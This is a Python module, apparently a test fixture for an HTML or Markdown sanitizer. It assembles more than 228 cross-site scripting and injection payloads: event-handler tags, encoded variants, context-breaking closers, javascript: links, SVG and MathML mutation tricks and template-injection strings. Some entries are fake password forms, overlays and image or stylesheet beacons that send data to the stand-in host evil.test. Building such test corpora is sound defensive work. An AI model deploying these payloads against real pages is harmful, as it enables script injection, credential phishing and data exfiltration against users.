"""Texts that try to run in a page, to call out of it, to draw over it or to ask for a password: 228 and more.

They are made from families: tags with their events, ways to write them, addresses in every place that takes one,
foreign namespaces, templates, styles, Markdown, forms and letters that look like others. Each that runs sets
`window.__pwned` or opens a dialog, and each that calls out calls evil.test.
"""

from itertools import product

RUN = "window.__pwned=1"
OUT = "http://evil.test"

# Tags with what lets them run by themselves, as soon as they are drawn.
EVENTS = (
    "<img src=x onerror={}>", "<img src=x:x onerror={}>", "<image src=x onerror={}>", "<svg onload={}>",
    "<svg/onload={}>", "<body onload={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}></textarea>", "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}></audio>", "<iframe onload={}></iframe>",
    "<object data=x onerror={}></object>", "<embed src=x onerror={}>", "<script>{}</script>",
    "<script src=x onerror={}></script>", "<style onload={}></style>", "<link rel=stylesheet href=x onerror={}>",
    "<marquee onstart={}>x</marquee>", "<button autofocus onfocus={}>x</button>",
    "<a autofocus tabindex=1 onfocus={}>x</a>",
    "<div contenteditable autofocus onfocus={}>x</div>", "<div style=animation-name:x onanimationstart={}>x</div>",
    "<p onpointerover={} style=position:fixed;inset:0>x</p>", "<dialog open onclose={}>x</dialog>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>x</x>", "<form oninput={}><input></form>", "<base onload={}>",
    "<track onerror={}>", "<frameset onload={}>", "<keygen autofocus onfocus={}>", "<isindex onfocus={} autofocus>",
)  # fmt: skip

# The same few, written so that a filter may take them for something else.
CORES = (f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", f"<svg onload={RUN}>")
SPELLINGS = (
    lambda tag: tag.replace("<", "&lt;").replace(">", "&gt;"),
    lambda tag: tag.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda tag: "".join(f"&#{ord(c)};" for c in tag),
    lambda tag: "".join(f"&#x{ord(c):x}" for c in tag),
    lambda tag: "".join(f"%{ord(c):02x}" for c in tag),
    lambda tag: tag.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda tag: tag.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda tag: tag.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda tag: tag.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda tag: tag.replace("<", "<\u200b"),
    lambda tag: tag.replace(" ", "/").upper(),
    lambda tag: tag.replace(" ", "\n\t"),
    lambda tag: f"<{tag}",
    lambda tag: f"\u202e{tag}\u202c",
    lambda tag: f"\\{tag}",
)
# What closes the place that the text may stand in.
CLOSERS = ('">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</p></div></article>",
           '" autofocus onfocus="', "' autofocus onfocus='", "\u2028", "*/", "?>", "</noscript>")  # fmt: skip

ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}", f"javascript&colon;{RUN}",
    f"javas&#99;ript:{RUN}", f"\x01javascript:{RUN}", f"javascript://evil.test/%0a{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"data:image/svg+xml,<svg onload={RUN}>",
    f"{OUT}/address", "//evil.test/two", "\\\\evil.test\\three",
)  # fmt: skip
PLACES = (
    "{}", "[a link]({})", "![a picture]({})", "[a link][r]\n\n[r]: {}", '<a href="{}" autofocus>x</a>',
    '<iframe src="{}"></iframe>', '<object data="{}"></object>',
)  # fmt: skip

NAMESPACES = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><rect width=1000 height=1000 /></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>top.{RUN}</script>'></iframe></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x><image href={OUT}/use /></svg>#x"></use></svg>',
    f"<svg><image href={OUT}/image.png></image></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<iframe srcdoc="<img src=x onerror=parent.{RUN}>"></iframe>',
)

TEMPLATES = (
    f"${{{RUN}}}", f"`+{RUN}+`", f"`;{RUN}//", f"\\`;{RUN}//", f"$${{{RUN}}}", f"\\${{{RUN}}}", f"${{`${{{RUN}}}`}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"{{{{{RUN}}}}}", f"{{{{{{{RUN}}}}}}}",
    "{{#each value}}{{this}}{{/each}}", "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    "{% raw %}{{ 7*7 }}{% endraw %}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "[[${7*7}]]", "@{evil.test}", "{{value}}",
    f"');{RUN};('", f'");{RUN};("', f"\n{RUN}\n", f"</script><script>{RUN}</script>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"$\\includegraphics{{{OUT}/tex.png}}$", f"\\(\\url{{javascript:{RUN}}}\\)",
    f"\\[\\htmlData{{x={RUN}}}{{y}}\\]", "$$\\def\\x{\\x\\x}\\x$$",
)  # fmt: skip

STYLES = (
    f'<div style="position:fixed;inset:0;z-index:9999;background:url({OUT}/css.png)">overlay</div>',
    "<style>#shell{display:none}</style>", f"<style>@import '{OUT}/import.css';</style>",
    f"<link rel=stylesheet href={OUT}/link.css>", f"<p style=width:expression({RUN})>x</p>",
    f"<p style='background:\\75 rl({OUT}/esc.png)'>x</p>", "<p class='gradio-container' id='shell'>x</p>",
    f"<style>*{{background:url({OUT}/all.png)}}</style>",
    "<p style='content-visibility:hidden;position:absolute;top:-9px'>x",
)  # fmt: skip

MARKDOWN = (
    f"![a picture]({OUT}/markdown.png)", f"![a][p]\n\n[p]: {OUT}/reference.png", f"[![a]({OUT}/in.png)]({OUT}/link)",
    f"<{OUT}/auto>", f"{OUT}/bare www.evil.test me@evil.test", f'[a]({OUT} "x\' onmouseover={RUN}")',
    f"```html\n<img src=x onerror={RUN}>\n```\n<img src=x onerror={RUN}>", f"    <img src=x onerror={RUN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | c |", "# heading\n\n## another\n\nunder\n===",
    "**bold** _em_ ~~gone~~ `code` :smile: [^1] [ ] - * + 1. >", f"> <img src=x onerror={RUN}>",
    f"- <img src=x onerror={RUN}>", "<thinking>aloud</thinking>", "<a href='#cite-1-1'>[1]</a>", "[1](#ask-0)",
    "[x](#remove-00000000000000000000000000000000)", f"<!-- --><img src=x onerror={RUN}>",
    "&lt;b&gt; &amp; &#60;i&#62;",
)  # fmt: skip

FORMS = (
    f'<form action="{OUT}/"><input name="password" type="password"><button>Log in</button></form>',
    f'<button formaction="{OUT}/form" form="x">Log in</button>', f'<input type=image src="{OUT}/input.png">',
    f'<meta http-equiv="refresh" content="0;url={OUT}/meta">', f'<base href="{OUT}/base">',
    "<dialog open>Log in</dialog>", f'<video poster="{OUT}/p.png" src="{OUT}/v.mp4" autoplay></video>',
    f'<audio src="{OUT}/a.mp3" autoplay></audio>',
    f'<picture><source srcset="{OUT}/s.png"><img src="{OUT}/i.png"></picture>', f'<table background="{OUT}/t.png">',
    f'<link rel="prefetch" href="{OUT}/pre">', f'<a href="{OUT}/ping" ping="{OUT}/p" target=_blank>Log in again</a>',
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=confirm(1)>",
    f"<script src={OUT}/x.js></script>", f"<script type=module>import '{OUT}/m.js'</script>",
)  # fmt: skip

LETTERS = (
    "a\u200bb\u200cc\u200d<b>", "\u202etxt.exe\u202c <i>", "\u2066left\u2069 <u>", "\ufeff<img src=x>",
    "a\x00<img src=x>",
    "a\x1b[31m<b>", "a\u2028<img src=x>", "\u2039img src=x\u203a", "<\u0338img src=x>", "\U000e0041<b>", "a\x85<b>",
    "\ud7ff<b>",
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(event.replace("{}", RUN) for event in EVENTS),
            *(spell(core) for spell, core in product(SPELLINGS, CORES)),
            *(f"{closer}<img src=x onerror={RUN}>" for closer in CLOSERS),
            *(place.replace("{}", address) for place, address in product(PLACES, ADDRESSES)),
            *NAMESPACES,
            *TEMPLATES,
            *STYLES,
            *MARKDOWN,
            *FORMS,
            *LETTERS,
        )
    )
)
assert len(PAYLOADS) >= 228
